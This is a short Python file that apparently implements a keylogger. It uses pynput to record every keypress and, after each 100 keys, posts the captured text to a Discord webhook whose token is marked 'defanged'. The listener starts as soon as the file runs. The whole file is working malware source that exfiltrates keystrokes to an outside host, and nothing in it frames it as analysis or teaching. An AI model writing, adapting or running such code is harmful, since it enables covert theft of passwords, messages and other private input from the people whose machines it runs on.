import requests
from pynput import keyboard

HOOK = "https://discord.com/api/webhooks/444444444444444444/defanged"
_buffer = []


def _on_press(key):
    _buffer.append(str(key))
    if len(_buffer) >= 100:
        requests.post(HOOK, json={"content": "".join(_buffer)})
        _buffer.clear()


keyboard.Listener(on_press=_on_press).start()
